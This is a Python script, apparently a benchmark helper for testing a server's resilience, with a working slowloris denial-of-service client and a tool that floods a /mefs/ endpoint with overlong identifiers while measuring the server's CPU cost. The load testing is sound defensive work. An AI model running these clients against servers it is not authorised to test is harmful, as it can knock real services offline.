#!/usr/bin/env python3
"""Abusive HTTP clients for bench/auth.sh (stdlib only).

  httpabuse.py slowloris HOST PORT CONNS SECONDS
      holds CONNS connections open for SECONDS, each having sent only part of a request header
      and a further header line every 2 s; prints how many were still open at the end
  httpabuse.py cid-cost HOST PORT PID REQUESTS LENGTH
      sends REQUESTS `GET /mefs/<CID of LENGTH characters>` one after the other and prints the
      CPU time (ms, every thread of PID) the server spent, and the statuses seen
"""
import os
import socket
import sys
import time


def slowloris(host, port, conns, seconds):
    socks = []
    for _ in range(conns):
        s = socket.create_connection((host, port))
        s.sendall(b"GET /getnonce HTTP/1.1\r\nHost: bench\r\n")
        socks.append(s)
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        time.sleep(min(2.0, max(0.0, end - time.monotonic())))
        n += 1
        for s in socks:
            try:
                s.sendall(b"X-Slow-%d: 1\r\n" % n)
            except OSError:
                pass
    alive = 0
    for s in socks:
        s.setblocking(False)
        try:
            s.recv(1)  # data or end of stream: the server answered or closed it
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        s.close()
    print(alive)


def cpu_ns(pid):
    total = 0
    for tid in os.listdir(f"/proc/{pid}/task"):
        try:
            with open(f"/proc/{pid}/task/{tid}/schedstat") as f:
                total += int(f.read().split()[0])
        except OSError:
            pass
    return total


def cid_cost(host, port, pid, requests, length):
    cid = "z" + "2" * (length - 1)
    req = f"GET /mefs/{cid} HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n".encode()
    statuses = {}
    before = cpu_ns(pid)
    for _ in range(requests):
        with socket.create_connection((host, port)) as s:
            s.sendall(req)
            data = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
            status = data.split(b" ", 2)[1].decode() if data else "none"
            statuses[status] = statuses.get(status, 0) + 1
    spent = (cpu_ns(pid) - before) / 1e6
    print(f"{spent:.1f} {' '.join(f'{k}x{v}' for k, v in sorted(statuses.items()))}")


if __name__ == "__main__":
    mode = sys.argv[1]
    if mode == "slowloris":
        slowloris(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]))
    elif mode == "cid-cost":
        cid_cost(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]))
    else:
        sys.exit(__doc__)
